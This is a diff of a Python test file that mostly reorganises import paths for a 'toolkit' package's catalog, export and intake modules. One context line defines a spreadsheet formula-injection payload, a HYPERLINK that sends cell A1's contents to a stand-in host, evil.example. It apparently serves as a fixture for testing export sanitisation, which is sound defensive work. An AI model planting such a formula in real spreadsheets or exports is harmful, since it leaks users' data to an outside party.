@@ -21,11 +21,11 @@ from pathlib import Path
 import pytest
 
 from toolkit.api import score_intake
-from toolkit.catalog import Catalog
-from toolkit.export_formats import detect_format
-from toolkit.export_mapping import load_mapping
-from toolkit.export_rows import RowError, RowOk, count_rows, iter_export
-from toolkit.intake import read_intakes
+from toolkit.content.catalog import Catalog
+from toolkit.exports.formats import detect_format
+from toolkit.exports.mapping import load_mapping
+from toolkit.exports.rows import RowError, RowOk, count_rows, iter_export
+from toolkit.intake.read import read_intakes
 
 CATALOG = Catalog()
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
